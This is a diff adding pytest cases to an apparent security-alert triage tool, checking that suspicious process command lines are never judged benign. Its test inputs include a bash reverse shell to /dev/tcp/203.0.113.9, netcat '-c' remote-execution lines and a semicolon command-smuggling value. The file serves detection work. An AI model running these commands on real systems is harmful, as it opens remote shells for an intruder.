@@ -111,3 +111,64 @@ def test_an_imitation_of_a_harmless_alert_is_never_benign(name: str, change: Cha
     if record is None:
         pytest.skip("this rule is about such files")
     assert explain(record).assessment.verdict != "benign"
+
+
+def prompt(**fields: Any) -> Record:
+    return changed(fixture("terminal-shell-in-container-benign"), **fields)
+
+
+@pytest.mark.parametrize("line", ["bash -i", "sh -i", "/bin/bash -i"])
+@pytest.mark.parametrize("parent", ["php-fpm8.2", "java", "nginx", "python3", "node", "perl"])
+def test_an_interactive_shell_below_a_service_or_a_script_is_no_plain_prompt(line: str, parent: str) -> None:
+    found = explain(prompt(proc__cmdline=line, proc__pname=parent))
+    assert found.assessment.verdict in {"suspicious", "malicious"}
+    assert "plain one" not in " ".join(c.text for h in found.hypotheses for c in (*h.supports, *h.against))
+
+
+def test_an_interactive_shell_that_is_redirected_is_no_plain_prompt() -> None:
+    record = prompt(proc__cmdline="bash -i >& /dev/tcp/203.0.113.9/443 0>&1")
+    assert explain(record).assessment.verdict == "malicious"
+
+
+@pytest.mark.parametrize("line", ["bash -i", "bash", "sh"])
+def test_a_prompt_that_the_runtime_opened_with_a_terminal_stays_plain(line: str) -> None:
+    assert explain(prompt(proc__cmdline=line)).assessment.leading == "staff-session"
+
+
+@pytest.mark.parametrize("line", ["nc -c implant 203.0.113.9 4444", "nc -z -c -w 2 /opt/x h 1", "nc -c a;b h 1"])
+def test_a_port_check_has_one_host_and_one_port_and_nothing_else(line: str) -> None:
+    record = changed(fixture("netcat-remote-code-execution-in-container-benign"), proc__cmdline=line)
+    assert explain(record).assessment.verdict != "benign"
+
+
+@pytest.mark.parametrize(
+    ("name", "fields"),
+    [
+        ("clear-log-activities-rotation", {"proc__cmdline": "logrotate -f /tmp/l.conf"}),
+        (
+            "run-shell-untrusted-benign",
+            {"proc__cmdline": "sh -c /opt/x/wal-archive pg_wal/0 & cp /opt/x /srv", "proc__pcmdline": None},
+        ),
+        (
+            "run-shell-untrusted-benign",
+            {"proc__cmdline": "sh -c pgbackrest --config=/tmp/p archive-push", "proc__pcmdline": None},
+        ),
+        ("system-user-interactive-benign", {"proc__cmdline": "php artisan tinker"}),
+        ("system-user-interactive-benign", {"proc__cmdline": "bash"}),
+        ("execution-from-dev-shm-benign", {"proc__cmdline": "sort --compress-program=./x ./a"}),
+        (
+            "detect-release-agent-file-container-escapes-benign",
+            {"container__image__repository": "registry.example.com/x/kindest/node"},
+        ),
+        ("detect-release-agent-file-container-escapes-lookalike", {"proc__pname": "sh"}),
+        ("fileless-execution-via-memfd-create-benign", {"user__loginuid": 1000}),
+        ("fileless-execution-via-memfd-create-benign", {"proc__cmdline": "6 --serve"}),
+        ("clear-log-activities-benign", {"container__id": "4be1d0a97c35", "proc__exepath": "/usr/local/bin/dockerd"}),
+        (
+            "ptrace-attached-to-process-test",
+            {"container__image__repository": "registry.example.com/falcosecurity/event-generator"},
+        ),
+    ],
+)
+def test_what_one_actor_can_arrange_does_not_borrow_a_harmless_cause(name: str, fields: dict[str, Any]) -> None:
+    assert explain(changed(fixture(name), **fields)).assessment.verdict != "benign"
